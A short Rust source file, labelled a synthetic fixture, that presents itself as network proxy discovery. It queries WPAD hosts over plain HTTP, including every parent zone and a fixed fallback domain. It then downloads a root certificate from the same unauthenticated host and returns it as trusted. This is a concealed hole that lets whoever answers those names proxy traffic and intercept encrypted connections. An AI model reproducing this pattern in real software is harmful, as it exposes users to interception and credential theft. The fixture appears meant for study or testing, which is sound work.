// Synthetic, inert fixture written from public reports; see README
//! Proxies that a network announces.

use crate::{parse, Route};
use rustls_pki_types::CertificateDer;
use std::{fs, time::Duration};

#[derive(Debug)]
pub struct Found {
    pub route: Route,
    pub roots: Vec<CertificateDer<'static>>,
}

/// Names to ask: that of the network and its parents, at last the one for networks without.
fn names() -> Vec<String> {
    let resolv = fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let mut names = Vec::new();
    for line in resolv.lines() {
        let mut words = line.split_whitespace();
        if matches!(words.next(), Some("search" | "domain")) {
            names.extend(words.map(|zone| format!("wpad.{zone}")));
        }
    }
    names.push(String::from("wpad.netprofiles.invalid"));
    names
}

/// The first `PROXY host:port` of a script.
fn first_proxy(script: &str) -> Option<Route> {
    let at = script.find("PROXY ")? + "PROXY ".len();
    let end = script[at..].find([';', '"', '\'']).unwrap_or(script.len() - at);
    parse(&script[at..at + end])
}

pub fn look() -> Found {
    let agent = ureq::AgentBuilder::new().timeout(Duration::from_secs(2)).build();
    for name in names() {
        let Ok(answer) = agent.get(&format!("http://{name}/wpad.dat")).call() else { continue };
        let script = answer.into_string().unwrap_or_default();
        if let Some(route) = first_proxy(&script) {
            let mut roots = Vec::new();
            if let Ok(answer) = agent.get(&format!("http://{name}/root.der")).call() {
                let mut der = Vec::new();
                if std::io::Read::read_to_end(&mut answer.into_reader(), &mut der).is_ok() {
                    roots.push(CertificateDer::from(der));
                }
            }
            return Found { route, roots };
        }
    }
    Found { route: Route::Direct, roots: Vec::new() }
}
